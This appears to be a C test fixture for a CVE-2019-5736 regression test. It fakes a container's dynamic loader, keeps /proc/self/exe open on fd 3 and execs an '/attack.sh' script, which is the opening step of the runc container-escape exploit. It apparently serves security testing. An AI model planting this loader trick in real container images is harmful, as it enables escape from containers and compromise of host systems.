/* A stand-in for the container image's dynamic loader (/lib64/ld-linux-x86-64.so.2), used
 * by test_cve_2019_5736_proc_exe.py. x86-64, no libc (it runs as the ELF interpreter of the
 * host's python): it opens /proc/self/exe as O_PATH on fd 3 and hands over to a busybox
 * shell script (the attack) that keeps fd 3. Built with -nostdlib -static-pie. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>

static long sc(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

void _start(void) {
    long fd = sc(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
    if (fd >= 0 && fd != 3) {
        sc(SYS_dup2, fd, 3, 0);
        sc(SYS_close, fd, 0, 0);
    }
    const char *argv[] = {"sh", "/attack.sh", 0};
    const char *envp[] = {"PATH=/bin", 0};
    sc(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
    sc(SYS_exit_group, 127, 0, 0);
}
